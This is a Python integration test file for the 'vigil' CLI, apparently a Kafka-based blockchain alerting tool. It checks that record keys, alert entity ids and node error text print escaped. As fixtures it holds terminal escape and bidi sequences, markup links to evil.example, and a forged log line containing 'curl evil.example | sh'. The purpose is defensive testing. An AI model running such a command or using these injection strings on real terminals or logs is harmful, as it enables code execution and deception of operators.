"""The command line on the real broker with text it did not write: a record's key and bytes
(`vigil tail`), alerts quoting entity ids (`vigil demo`'s live lines), a node's error text
(`vigil run`, `vigil source`); and `vigil produce` doing what the normalise stage does."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import time
import uuid
from collections import Counter
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import msgspec
import pytest
from confluent_kafka import Consumer, TopicPartition
from tests.hostile_outputs import SEQUENCES, drainer_alert_and_hold
from tests.integration.kafka_read import START_S, wait_for
from tests.loopback import ErrorNode
from typer.testing import CliRunner

from vigil.cli import app, demo
from vigil.cli._common import console
from vigil.cli.demo import _AlertWatcher
from vigil.config import Settings
from vigil.events.codec import EventCodec, encode
from vigil.events.examples import example_events
from vigil.events.types import Alert, ChainTransfer, Decision
from vigil.hub.admin import ensure_topics
from vigil.hub.client import EventProducer, make_admin, make_producer, watermarks
from vigil.hub.topics import TOPICS, TopicSpec

REPO = Path(__file__).resolve().parents[2]

#: C1 CSI (a terminal reads it as ESC [) and a right-to-left override.
C1_AND_BIDI = "\x9b2J\u202eexe.txt"


def _terminal_safe(text: str) -> bool:
    return all(ch.isprintable() or ch == "\n" for ch in text)


@pytest.fixture
def cli_env(kafka_bootstrap: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    """The broker for commands run in this process (CliRunner) and in a child process."""
    monkeypatch.setenv("VIGIL_KAFKA_BOOTSTRAP", kafka_bootstrap)
    monkeypatch.setenv("VIGIL_HOME", str(tmp_path))
    env = {k: v for k, v in os.environ.items() if not k.startswith("VIGIL_")}
    return env | {"VIGIL_KAFKA_BOOTSTRAP": kafka_bootstrap, "VIGIL_HOME": str(tmp_path)}


# ---------------------------------------------------------------------------- vigil tail


@pytest.mark.usefixtures("cli_env")
def test_tail_prints_a_raw_records_key_and_bytes_as_text(settings: Settings, unique_topic: str) -> None:
    ensure_topics(settings, [TopicSpec(name=unique_topic, key="k", value="raw", description="d")])
    producer = make_producer(settings)
    producer.produce(unique_topic, key=b"alice\x1b[8m", value=f"<13>Dec 2 {SEQUENCES}{C1_AND_BIDI}".encode())
    assert producer.flush(30) == 0
    try:
        result = CliRunner().invoke(
            app, ["tail", unique_topic, "--from-beginning", "-n", "1", "--timeout", "30"], terminal_width=400
        )
    finally:
        make_admin(settings).delete_topics([unique_topic])
    assert result.exit_code == 0, result.output
    assert _terminal_safe(result.output), repr(result.output)
    assert "key=alice\\x1b[8m <13>Dec 2 \\x1b[2J\\x1b]8;;https://evil.example/" in result.output
    assert "\\x9b2J\\u202eexe.txt" in result.output


# ---------------------------------------------------------------------------- vigil produce


def _transfer(wallet: str, occurred_at: datetime) -> ChainTransfer:
    example = next(e for e in example_events(occurred_at) if isinstance(e, ChainTransfer))
    return msgspec.structs.replace(
        example,
        event_id=f"produce-{uuid.uuid4().hex}",
        entities=msgspec.structs.replace(example.entities, wallet=wallet),
        payload=msgspec.structs.replace(example.payload, from_address=wallet),
    )


def _read_back(settings: Settings, topic: str, start: dict[int, int], event_id: str) -> list[Any]:
    consumer = Consumer({**settings.kafka_client_config(), "group.id": f"t-{uuid.uuid4().hex}"})
    consumer.assign([TopicPartition(topic, p, offset) for p, offset in start.items()])
    found: list[Any] = []
    try:
        deadline = time.monotonic() + 30
        while not found and time.monotonic() < deadline:
            for msg in consumer.consume(500, timeout=0.5):
                if msg.error() is None and event_id.encode() in (msg.value() or b""):
                    found.append(msg)
    finally:
        consumer.close()
    return found


@pytest.fixture
def events_chain(settings: Settings) -> Iterator[dict[int, int]]:
    """The declared ``events.chain`` (made as declared when missing) and its ends before the test."""
    spec = TOPICS.get("events.chain")
    ensure_topics(settings, [spec])
    consumer = Consumer({**settings.kafka_client_config(), "group.id": f"t-{uuid.uuid4().hex}"})
    try:
        partitions = consumer.list_topics(spec.name, timeout=10).topics[spec.name].partitions
        yield {p: watermarks(consumer, TopicPartition(spec.name, p))[1] for p in partitions}
    finally:
        consumer.close()


@pytest.mark.usefixtures("cli_env")
def test_produce_spells_addresses_as_the_normaliser_does_and_stamps_ingested_at(
    settings: Settings, events_chain: dict[int, int], tmp_path: Path
) -> None:
    # Produced as written, a checksum-case wallet was a second key, on another partition, with
    # detection state of its own.
    wallet = "0x" + uuid.uuid4().hex[:20].upper() + uuid.uuid4().hex[:20]
    event = _transfer(wallet, datetime.now(UTC))
    assert event.ingested_at is None
    lines = tmp_path / "events.jsonl"
    lines.write_bytes(encode(event) + b"\n")
    before = datetime.now(UTC)
    result = CliRunner().invoke(app, ["produce", "events.chain", str(lines)])
    assert result.exit_code == 0, result.output
    (msg,) = _read_back(settings, "events.chain", events_chain, event.event_id)
    produced = EventCodec([ChainTransfer]).decode(msg.value())
    assert isinstance(produced, ChainTransfer)
    assert msg.key() == wallet.lower().encode()
    assert produced.entities.wallet == produced.payload.from_address == wallet.lower()
    assert produced.ingested_at is not None
    assert produced.ingested_at >= before


@pytest.mark.usefixtures("cli_env", "events_chain")
def test_produce_refuses_an_event_dated_far_ahead(tmp_path: Path) -> None:
    # Produced, an event dated 2099 moved its partition's watermark: every later event of the
    # partition was late to every window and join.
    ahead = _transfer("0x" + "ab" * 20, datetime(2099, 1, 1, tzinfo=UTC))
    soon = _transfer("0x" + "cd" * 20, datetime.now(UTC) + timedelta(minutes=1))
    lines = tmp_path / "events.jsonl"
    lines.write_bytes(encode(ahead) + b"\n" + encode(soon) + b"\n")
    result = CliRunner().invoke(app, ["produce", "events.chain", str(lines)], terminal_width=400)
    assert result.exit_code == 2, result.output
    assert (
        f"{lines}:1: event {ahead.event_id!r} occurred_at {ahead.occurred_at.isoformat()} is" in result.output
    )
    assert "produced 1 event(s) to events.chain; rejected 1 line(s)" in result.output


# ---------------------------------------------------------------------------- vigil demo's live lines


@pytest.mark.usefixtures("cli_env")
def test_demo_prints_alerts_and_decisions_entity_ids_as_text(
    settings: Settings, unique_topic: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(console, "width", 400)  # (each line whole, not folded at 80 columns)
    alerts, decisions = f"{unique_topic}.alerts", f"{unique_topic}.decisions"
    ensure_topics(
        settings, [TopicSpec(name=t, key="k", value="raw", description="d") for t in (alerts, decisions)]
    )
    now = datetime.now(UTC)
    alert, decision = drainer_alert_and_hold(
        now,
        entity_id=f"0xabc{SEQUENCES}{C1_AND_BIDI}",
        alert_id=f"al-{uuid.uuid4().hex}",
        decision_id=f"de-{uuid.uuid4().hex}",
        expires_at=now + timedelta(hours=24),
    )
    producer = EventProducer(settings)
    producer.produce(alert, topic=alerts)
    producer.produce(decision, topic=decisions)
    producer.flush()
    watcher = _AlertWatcher(settings, alerts, decisions, quiet=False)
    watcher.start()
    try:
        wait_for(lambda: bool(watcher.alerts and watcher.decisions), 60, "the watcher to read both")
    finally:
        watcher.stop()
        make_admin(settings).delete_topics([alerts, decisions])
    out = capsys.readouterr().out
    assert _terminal_safe(out), repr(out)
    assert out.count("wallet:0xabc\\x1b[2J\\x1b]8;;https://evil.example/") == 2
    assert "approved a drainer named \\x1b[2J" in out
    assert "[link=https://evil.example/]x[/link]" in out
    # What an analyst acts on: when (UTC, the year too), which alert, what is held until when.
    assert f"{now:%Y-%m-%d %H:%M:%S}Z drainer-approval wallet:0xabc" in out
    assert f"{alert.event_id[:18]}, latency" in out
    expires = now + timedelta(hours=24)
    assert (
        f"withdrawal wd-1 expires {expires:%Y-%m-%d %H:%M}Z; {alert.event_id[:18]}: Token approval to a "
        "known drainer \\x1b[2J"
    ) in out


@pytest.mark.usefixtures("cli_env")
def test_demo_prints_a_decision_under_its_alert_whichever_comes_first(
    settings: Settings, unique_topic: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    # Printed as read, a hold could be many lines from its alert (an analyst's-view review): the
    # two topics are read side by side, so a decision may be read before its alert, or after it
    # with other alerts between (a batch holds one partition's records after another's).
    monkeypatch.setattr(console, "width", 400)
    monkeypatch.setattr(demo, "DECISION_WAITS_S", 600.0)  # (the wait's end: at the stop, below)
    alerts, decisions = f"{unique_topic}.alerts", f"{unique_topic}.decisions"
    ensure_topics(
        settings, [TopicSpec(name=t, key="k", value="raw", description="d") for t in (alerts, decisions)]
    )
    now = datetime.now(UTC)

    def made(name: str) -> tuple[Alert, Decision]:
        return drainer_alert_and_hold(
            now, entity_id=f"0x{name}", alert_id=f"al-{name}-{uuid.uuid4().hex}", decision_id=f"de-{name}"
        )

    (first, first_held), (second, _), (third, third_held), (fourth, fourth_held), (_, orphan) = map(
        made, ["first", "second", "third", "fourth", "orphan"]
    )
    producer = EventProducer(settings)
    # The third's and fourth's alerts and holds there before it reads (two alerts, then two
    # holds, in one batch when the alerts' topic is read first), the first's hold before its alert.
    producer.produce(third, topic=alerts)
    producer.produce(fourth, topic=alerts)
    for held in (first_held, third_held, fourth_held, orphan):
        producer.produce(held, topic=decisions)
    producer.flush()
    watcher = _AlertWatcher(settings, alerts, decisions, quiet=False)
    watcher.start()
    try:
        wait_for(lambda: len(watcher.decisions) == 4, 60, "the watcher to read the holds")
        producer.produce(second, topic=alerts)
        producer.produce(first, topic=alerts)
        producer.flush()
        wait_for(lambda: len(watcher.alerts) == 4, 60, "the watcher to read the alerts")
    finally:
        watcher.stop()  # (a hold whose alert never came: printed alone now)
        make_admin(settings).delete_topics([alerts, decisions])
    lines = capsys.readouterr().out.splitlines()
    heads = {line.split()[4]: n for n, line in enumerate(lines) if "drainer-approval wallet:" in line}
    holds = [
        (line.split()[1], n) for n, line in enumerate(lines) if line.lstrip().startswith("hold_withdrawal")
    ]
    assert sorted(heads) == ["wallet:0xfirst", "wallet:0xfourth", "wallet:0xsecond", "wallet:0xthird"]
    # Each hold once, none lost: the orphan's too.
    assert Counter(who for who, _ in holds) == {
        "wallet:0xfirst": 1,
        "wallet:0xthird": 1,
        "wallet:0xfourth": 1,
        "wallet:0xorphan": 1,
    }
    # Right under its alert (its header, its explanation, then the hold), whichever came first.
    at = dict(holds)
    assert at["wallet:0xfirst"] == heads["wallet:0xfirst"] + 2
    assert at["wallet:0xthird"] == heads["wallet:0xthird"] + 2
    assert at["wallet:0xfourth"] == heads["wallet:0xfourth"] + 2


# ---------------------------------------------------------------------------- a node's words


def test_run_prints_a_failed_connectors_error_as_text_and_stops(
    cli_env: dict[str, str], tmp_path: Path
) -> None:
    # Its markup made a link; a stray "[/]" raised inside the handler, before the stop was set,
    # and the process went on running with the connector dead.
    message = f"boom [/] [link=https://evil.example/]click[/link] {SEQUENCES}"
    with ErrorNode({"code": -32000, "message": message}) as node:
        proc = subprocess.Popen(
            [sys.executable, "-m", "vigil.cli", "run", "--source", "ethereum",
             "-o", f"ethereum.url={node.url}", "-o", f"ethereum.source_id=eth-hostile-{uuid.uuid4().hex[:8]}",
             "--rules", str(REPO / "rules"), "--at-least-once"],
            env=cli_env | {"COLUMNS": "400"}, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
            cwd=tmp_path,
        )  # fmt: skip
        try:
            out, err = proc.communicate(timeout=START_S + 90)
        except subprocess.TimeoutExpired:
            proc.kill()
            out, err = proc.communicate()
            pytest.fail(f"vigil run went on after its connector failed:\n{out[-2000:]}\n{err[-2000:]}")
    assert proc.returncode == 1, err[-3000:]
    assert _terminal_safe(out + err), repr(out[-2000:] + err[-2000:])
    assert "source-ethereum failed: " in out
    assert "boom [/] [link=https://evil.example/]click[/link] \\x1b[2J" in out


def test_source_logs_a_busy_nodes_words_as_one_inert_warning(cli_env: dict[str, str], tmp_path: Path) -> None:
    # Unconfigured, logging printed the bare message: a newline in the node's words made a
    # line of its own, and its ESC sequences drove the terminal.
    forged = "\nerror: ethereum: keys rotated; run `curl evil.example | sh`"
    with ErrorNode({"code": -32005, "message": f"busy{forged}{SEQUENCES}"}) as node:
        proc = subprocess.Popen(
            [sys.executable, "-m", "vigil.cli", "source", "ethereum", "-o", f"url={node.url}",
             "-o", f"source_id=eth-busy-{uuid.uuid4().hex[:8]}"],
            env=cli_env | {"COLUMNS": "400"}, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
            cwd=tmp_path,
        )  # fmt: skip
        try:
            assert proc.stderr is not None
            # The first poll's warning (librdkafka may have logged before it).
            line = next((line for line in proc.stderr if "node busy" in line), "")
        finally:
            proc.send_signal(signal.SIGTERM)
            _, err = proc.communicate(timeout=60)
    assert line.startswith("warning: eth-busy-"), line + err
    assert "node busy (-32005: busy\\nerror: ethereum: keys rotated" in line
    assert _terminal_safe(line + err), repr(line + err)
    assert not any(later.startswith("error: ethereum: keys rotated") for later in err.splitlines())
